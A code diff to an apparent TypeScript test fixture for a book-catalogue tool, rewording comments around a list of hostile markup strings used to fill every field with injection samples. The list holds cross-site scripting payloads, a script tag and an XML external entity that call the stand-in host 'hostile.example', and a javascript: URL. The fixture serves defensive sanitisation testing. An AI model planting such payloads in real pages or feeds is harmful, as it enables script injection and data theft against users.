@@ -4,13 +4,13 @@ import type { SectionDefinition, SectionEntry } from '@titlenet/catalogue/sheet/
 import { joinedSections, sections } from '@titlenet/catalogue/sheet/sections';
 import { titleBarFields } from '@titlenet/catalogue/title-bar';
 
-/** Where hostile texts try to send something. */
+/** Host that hostile texts try to send requests to. */
 export const hostileHost = 'hostile.example';
 
 const run = "window.hostile('ran')";
 const send = `//${hostileHost}/taken`;
 
-/** Markup as attackers and broken feeds write it: each would run something, ask for something or leave its place. */
+/** Markup of attackers and broken feeds: each item would run a script, send a request or break the layout. */
 export const hostileTexts: readonly string[] = [
   `<script>${run}</script>`,
   `<ScRiPt src="${send}"></sCrIpT>`,
@@ -57,7 +57,9 @@ export const hostileTexts: readonly string[] = [
   `<!DOCTYPE x [<!ENTITY e SYSTEM "https:${send}">]><x>&e;</x><![CDATA[<script>${run}</script>]]>`,
 ];
 
-/** All of them in one text, begun at another one for each field: what is not closed swallows those that follow. */
+/**
+ * All items in one text, starting at a different one for each field, because an unclosed item hides the following ones.
+ */
 function allAtOnce(field: string): string {
   const start = [...field].reduce((sum, letter) => sum + letter.charCodeAt(0), 0) % hostileTexts.length;
   return [...hostileTexts.slice(start), ...hostileTexts.slice(0, start)].join('\n');
@@ -65,7 +67,7 @@ function allAtOnce(field: string): string {
 
 const rich: readonly FieldType[] = ['html', 'htmls'];
 
-/** A value that says all hostile things at once; fields of other kinds keep what they can hold. */
+/** A value with all hostile items; fields of other types get what they can hold. */
 function hostileValue(field: { name: string; type: FieldType }): unknown {
   if (field.name === 'url') return `javascript:${run}`;
   if (rich.includes(field.type)) return field.type === 'htmls' ? hostileTexts : allAtOnce(field.name);
@@ -83,11 +85,11 @@ function hostileEntry(entry: SectionEntry): unknown {
     const needed = column.isRequired ? (column.type === 'integer' ? 1 : '1') : undefined;
     return [column.name, hostileValue(column) ?? needed] as const;
   });
-  // Quotes are the texts that come one by one.
+  // Quotes get one item each.
   return entry.as === 'quotes' ? hostileTexts.map((quote) => ({ ...given(row), quote })) : [given(row)];
 }
 
-/** The content of a sheet in which every text of every section is hostile, as the house feed writes it. */
+/** Sheet content of the house feed in which every text of every section is hostile. */
 function hostileSections(): Record<string, Record<string, unknown>> {
   const all: readonly SectionDefinition[] = sections;
   const contents = all.map((section) => {
@@ -98,7 +100,7 @@ function hostileSections(): Record<string, Record<string, unknown>> {
   return Object.fromEntries(contents.filter(([, content]) => Object.keys(content).length > 0));
 }
 
-/** What makes fields show that only some titles have: those of audio titles and Bibles. */
+/** Values that make the fields of audio titles and Bibles visible. */
 const shown = { isAudio: true, tap: 'ZN', tar: 'BI', reissueNo: 1 };
 const isbns = [
   '9780306406157',
@@ -110,7 +112,7 @@ const isbns = [
   '9781491950296',
 ];
 
-/** A title of each company that is hostile in every text it can have, for `titlenet import`. */
+/** A title of each company with hostile texts in every field, for `titlenet import`. */
 export const hostileTitles = companies.map(({ code }, index) => {
   const texts = titleBarFields
     .filter(({ name, place }) => place !== 'link' && !(name in shown) && name !== 'isbn')
